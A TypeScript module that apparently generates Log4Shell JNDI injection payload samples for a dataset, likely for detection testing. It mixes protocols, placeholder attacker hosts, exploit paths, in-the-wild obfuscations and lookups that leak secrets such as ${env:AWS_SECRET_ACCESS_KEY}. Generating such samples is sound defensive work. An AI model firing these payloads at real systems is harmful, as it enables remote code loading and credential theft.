import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { ATTACKER_HOSTS } from '../templates.js';
import { distinctSamples } from './distinct.js';

/** Obfuscations seen in the wild after December 2021 (lookup nesting, default values, case). */
function obfuscate(word: string, rng: Rng): string {
  const style = rng.weighted<string>([
    ['plain', 4],
    ['lower', 2],
    ['upper', 1],
    ['default', 2],
    ['env', 1],
    ['mixed', 1],
  ]);
  if (style === 'plain') return word;
  return [...word]
    .map((c) => {
      if (!rng.chance(0.6)) return c;
      switch (style) {
        case 'lower':
          return `\${lower:${c}}`;
        case 'upper':
          return `\${upper:${c.toLowerCase()}}`;
        case 'default':
          return `\${::-${c}}`;
        case 'env':
          return `\${env:${rng.pick(['NaN', 'BARFOO', 'ENV_NAME', 'X'])}:-${c}}`;
        default:
          return rng.chance(0.5) ? c.toUpperCase() : c;
      }
    })
    .join('');
}

/** Exfiltration lookups placed in the host or path. */
const LEAKS = [
  '${env:AWS_SECRET_ACCESS_KEY}',
  '${env:USER}',
  '${sys:java.version}',
  '${java:version}',
  '${hostName}',
  '${env:HOSTNAME}',
  '${sys:user.name}',
  '${java:os}',
  '${ctx:loginId}',
  '${date:MM-dd-yyyy}',
];

/** JNDI lookup payloads: protocols × hosts × paths × obfuscation × exfil lookups. */
export function generateLog4Shell(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('log4shell', 'log4shell', count, rng, (r) => {
    const proto = r.weighted<string>([
      ['ldap', 6],
      ['ldaps', 1],
      ['rmi', 3],
      ['dns', 2],
      ['iiop', 0.5],
      ['http', 0.5],
      ['nis', 0.3],
      ['corba', 0.3],
      ['nds', 0.3],
    ]);
    let host: string = r.pick(ATTACKER_HOSTS);
    if (r.chance(0.25)) host = `${r.pick(LEAKS)}.${host}`;
    const port = r.chance(0.6) ? `:${r.pick([1389, 1099, 389, 636, 53, 8080, 443, 80, 3890])}` : '';
    const path = r.pick([
      '/a',
      '/Exploit',
      '/o',
      `/${r.uint32().toString(36)}`,
      '/Basic/Command/Base64/aWQ=',
      '/callback',
      '',
      `/${r.pick(LEAKS)}`,
    ]);
    const inner = `${obfuscate('jndi', r)}:${obfuscate(proto, r)}://${host}${port}${path}`;
    let payload = `\${${inner}}`;
    if (r.chance(0.15))
      payload = `${r.pick(['', 'test', 'admin', 'Mozilla/5.0 '])}${payload}${r.pick(['', '}', ' x'])}`;
    return payload;
  });
}
